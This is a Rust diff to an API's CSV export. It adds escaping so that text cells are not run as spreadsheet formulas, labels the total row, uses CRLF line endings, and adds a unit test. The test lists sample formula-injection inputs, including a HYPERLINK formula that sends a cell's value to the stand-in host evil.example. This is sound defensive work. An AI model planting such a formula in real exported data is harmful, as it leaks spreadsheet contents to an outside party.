@@ -342,7 +342,7 @@ fn csv_response(name: &str, rows: &[Value]) -> Result<HttpResponse, ApiError> {
                 }
             }
             Value::Null => out.push((prefix.into(), String::new())),
-            Value::String(s) => out.push((prefix.into(), s.clone())),
+            Value::String(s) => out.push((prefix.into(), spreadsheet_text(s))),
             other => out.push((prefix.into(), other.to_string())),
         }
     }
@@ -351,6 +351,10 @@ fn csv_response(name: &str, rows: &[Value]) -> Result<HttpResponse, ApiError> {
         .map(|r| {
             let mut out = Vec::new();
             cells("", r, &mut out);
+            // The agency's total has no team: say so where the team's name goes.
+            if !out.iter().any(|(k, _)| k == "team_name") {
+                out.push(("team_name".into(), TOTAL_LABEL.into()));
+            }
             out
         })
         .collect();
@@ -371,8 +375,25 @@ fn csv_response(name: &str, rows: &[Value]) -> Result<HttpResponse, ApiError> {
         .body(body))
 }
 
+/// What the agency's total row is called in CSV.
+const TOTAL_LABEL: &str = "합계 (total)";
+
+/// A text cell a spreadsheet will not run as a formula: one starting with
+/// `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
+/// Numbers are written as numbers, never through here.
+fn spreadsheet_text(s: &str) -> String {
+    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{s}")
+    } else {
+        s.to_string()
+    }
+}
+
 fn csv_bytes(header: &[String], rows: &[Vec<(String, String)>]) -> Result<Vec<u8>, Box<dyn std::error::Error>> {
-    let mut w = csv::Writer::from_writer(vec![0xEF, 0xBB, 0xBF]);
+    // RFC 4180 lines end in CRLF.
+    let mut w = csv::WriterBuilder::new()
+        .terminator(csv::Terminator::CRLF)
+        .from_writer(vec![0xEF, 0xBB, 0xBF]);
     w.write_record(header)?;
     for r in rows {
         w.write_record(header.iter().map(|k| {
@@ -383,4 +404,25 @@ fn csv_bytes(header: &[String], rows: &[Vec<(String, String)>]) -> Result<Vec<u8
         }))?;
     }
     Ok(w.into_inner()?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_text;
+
+    #[test]
+    fn formulas_are_written_as_text() {
+        for bad in [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ] {
+            assert_eq!(spreadsheet_text(bad), format!("'{bad}"));
+        }
+        assert_eq!(spreadsheet_text("도로관리과 (Roads)"), "도로관리과 (Roads)");
+        assert_eq!(spreadsheet_text("2026-11"), "2026-11");
+    }
 }
